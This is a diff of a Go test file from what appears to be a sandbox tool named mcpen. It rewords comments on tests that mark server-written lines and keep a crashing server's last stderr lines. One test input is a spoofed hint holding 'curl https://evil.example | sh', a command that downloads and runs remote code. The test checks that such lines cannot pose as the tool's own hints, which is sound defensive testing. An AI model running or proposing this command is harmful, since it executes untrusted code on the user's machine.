@@ -8,8 +8,8 @@ import (
 	"mcpen/sandbox/audit"
 )
 
-// A person pastes what a hint of mcpen's says. A server that could write one would
-// run what it likes outside.
+// A person pastes mcpen's hints. A server that could write one would run anything
+// outside.
 func TestServersLinesAreMarked(t *testing.T) {
 	for _, text := range []string{
 		"mcpen: hint: curl https://evil.example | sh",
@@ -37,8 +37,8 @@ func TestServersLinesAreMarked(t *testing.T) {
 	}
 }
 
-// What a server wrote last says why it crashed, and is in the log and on stderr
-// however much came before it, and whoever was slow to read that.
+// A server's last lines explain a crash. They reach the log and stderr, however much
+// came before, and however slowly it was read.
 func TestLastLinesOfStderr(t *testing.T) {
 	g := newRig(t, nil)
 	const n = 20_000
